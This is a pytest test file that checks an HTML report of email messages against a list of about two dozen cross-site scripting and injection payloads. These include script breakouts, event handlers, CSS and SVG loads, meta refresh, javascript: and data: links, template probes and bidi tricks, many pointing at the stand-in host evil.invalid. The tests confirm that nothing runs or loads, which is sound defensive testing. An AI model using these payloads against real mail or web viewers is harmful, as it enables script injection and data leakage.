"""Mail that attacks its reader: nothing of it runs, nothing is loaded, nothing leaves its frame."""

from __future__ import annotations

from pathlib import Path

import pytest
from browser_pages import Open, write_report

ATTACKS = {
    "script": "<script>top.pwned=1;parent.pwned=1;window.pwned=1</script><p>after</p>",
    "script that ends ours": "</script><script>pwned=1</script>",
    "end of everything": "</pre></div></iframe></details></body></html><script>pwned=1</script>",
    "end of data": "]]><script>pwned=1</script><![CDATA[",
    "handlers": '<img src=x onerror="pwned=1"><body onload="pwned=1"><div onmouseover="pwned=1">x</div>',
    "style that loads": "<style>@import 'http://evil.invalid/a.css';body{background:url(http://evil.invalid/b)}</style>",
    "style that spells": r'<p style="background:\75\72l(http://evil.invalid/c)">x</p><style>p{background:u\rl("//evil.invalid")}</style>',
    "style that breaks out": "<style></style><script>pwned=1</script><style>*{display:none}</style>",
    "image set": "<style>p{background:image-set('http://evil.invalid/d' 1x)}</style><p>x</p>",
    "svg": '<svg onload="pwned=1"><script>pwned=1</script><image href="http://evil.invalid/e"/><use xlink:href="//evil.invalid/f"/></svg>',
    "svg animation": '<svg><a><animate attributeName="href" values="javascript:pwned=1"/><text y="20">x</text></a></svg>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=http://evil.invalid/g">',
    "base": '<base href="http://evil.invalid/"><a href="h">x</a><img src="i.png">',
    "form": '<form action="http://evil.invalid/j"><input name=q autofocus><button>send</button></form>',
    "javascript link": '<a href="javascript:pwned=1" target=_top>click</a><a href=" jAvAsCrIpT:pwned=1">click</a>',
    "links that look up": '<link rel=dns-prefetch href="//evil.invalid"><link rel=preconnect href="//evil.invalid">'
    '<link rel=stylesheet href="//evil.invalid/k.css"><link rel=prefetch href="//evil.invalid/l">',
    "frames": '<iframe src="http://evil.invalid/m"></iframe><iframe srcdoc="<script>top.pwned=1</script>"></iframe>'
    '<object data="http://evil.invalid/n"></object><embed src="http://evil.invalid/o">',
    "media": '<video poster="http://evil.invalid/p" autoplay><source src="//evil.invalid/q"></video><audio src="//evil.invalid/r">',
    "images": '<img src="http://evil.invalid/s"><img srcset="//evil.invalid/t 2x"><table background="//evil.invalid/u"><tr><td>x',
    "quotes for srcdoc": '"\' &quot; &#34; onload=pwned=1 x="><script>pwned=1</script>',
    "templates": "{{ 7*7 }} {% raw %} {{ config }} {# #} ${7*7} {{ ''.__class__ }}",
    "direction": "<p>exe.\u202egpj.txt \u2066hidden\u2069 \u200f</p>",
    "data link": '<a href="data:text/html,<script>pwned=1</script>">x</a><img src="data:image/svg+xml,<svg onload=pwned=1>">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=pwned=1>"></noscript>',
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">',
    "unclosed": "<a title='<b><script>pwned=1",
    "textarea": "<textarea></textarea><script>pwned=1</script></textarea><plaintext></plaintext><script>pwned=1",
    "null bytes": "<scr\x00ipt>pwned=1</scr\x00ipt><img src=x one\x00rror=pwned=1>",
}


def mail(subject: str, body: str, extra: str = "") -> bytes:
    head = (
        f"From: a@contoso.com\r\nTo: b@contoso.com\r\nSubject: {subject}\r\nMessage-Id: <{subject[:40]}@x>\r\n{extra}"
        "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    )
    return head.encode() + body.replace("\n", "\r\n").encode() + b"\r\n"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One report of all attacks: as a body, in a header field, in a subject, in a file name and in a text."""
    folder = tmp_path_factory.mktemp("hostile")
    paths = []
    for number, attack in enumerate(ATTACKS.values()):
        flat = attack.replace("\x00", "").replace("\n", " ")
        extra = f"X-Attack: {flat}\r\n"
        paths.append(folder / f"{number:02d}.eml")
        paths[-1].write_bytes(mail(flat, f"<p>Hello {number}</p>\n{attack}\n<p>end</p>", extra))
    return write_report(paths, folder / "hostile.html")


@pytest.mark.parametrize("scripts", [True, False], ids=["with scripts", "without scripts"])
def test_nothing_of_a_hostile_mail_runs_or_loads(hostile: Path, open_page: Open, scripts: bool) -> None:
    opened = open_page(hostile, java_script_enabled=scripts)
    page = opened.page
    if scripts:
        page.evaluate("() => document.querySelectorAll('details').forEach(one => one.open = true)")
        page.evaluate("() => document.querySelectorAll('iframe').forEach(one => one.loading = 'eager')")
        frames = page.evaluate("() => document.querySelectorAll('iframe').length")
        assert frames >= 2 * (len(ATTACKS) - 1)
        page.wait_for_function(f"() => window.length >= {frames}")
    page.wait_for_timeout(1000)
    opened.check_quiet()
    if scripts:
        assert page.evaluate("() => window.pwned === undefined")
        assert page.evaluate("() => document.querySelectorAll('script').length") == 6
        assert page.evaluate(
            "() => [...document.querySelectorAll('iframe')].every(one => one.getAttribute('sandbox') === '')"
        )
    assert page.url.split("#")[0] == hostile.as_uri()


def test_a_click_inside_a_frame_leads_nowhere(hostile: Path, open_page: Open) -> None:
    opened = open_page(hostile)
    page = opened.page
    page.evaluate("() => document.querySelectorAll('details').forEach(one => one.open = true)")
    page.evaluate("() => document.querySelectorAll('iframe').forEach(one => one.loading = 'eager')")
    page.wait_for_timeout(500)
    clicked = 0
    for frame in page.frames[1:]:
        for link in frame.query_selector_all("a, button"):
            link.dispatch_event("click")
            clicked += 1
    assert clicked > 5
    page.wait_for_timeout(300)
    # The console may tell what was refused; nothing was asked for, and nothing ran.
    assert [url for url in opened.requests if url.startswith("http")] == []
    assert len(opened.requests) == 1, opened.requests
    assert page.evaluate("() => window.pwned === undefined")
    assert page.url.split("#")[0] == hostile.as_uri()


def test_the_page_holds_no_template_and_shows_direction_marks(hostile: Path, open_page: Open) -> None:
    text = hostile.read_text(encoding="utf-8")
    assert "{{ 7*7 }}" in text
    page = open_page(hostile).page
    outside = page.evaluate("() => document.documentElement.textContent")
    assert "\u202e" not in outside
    assert "\\u202e" in outside


def test_the_policy_itself_stops_a_script_and_a_load(samples: Path, open_page: Open) -> None:
    """Were something of a mail to come through the escaping, the policy would stop it: what is asked here is refused."""
    opened = open_page(samples)
    refused = opened.page.evaluate(
        """async () => {
        const script = document.createElement('script');
        script.textContent = 'window.pwned = 1';
        document.body.append(script);
        const image = new Image();
        const failed = new Promise(done => { image.onerror = () => done(true); image.onload = () => done(false); });
        image.src = 'http://evil.invalid/x.png';
        const fetched = await fetch('http://evil.invalid/').then(() => false, () => true);
        return [window.pwned === undefined, await failed, fetched];
    }"""
    )
    assert refused == [True, True, True]
    assert any("Content Security Policy" in line for line in opened.console)
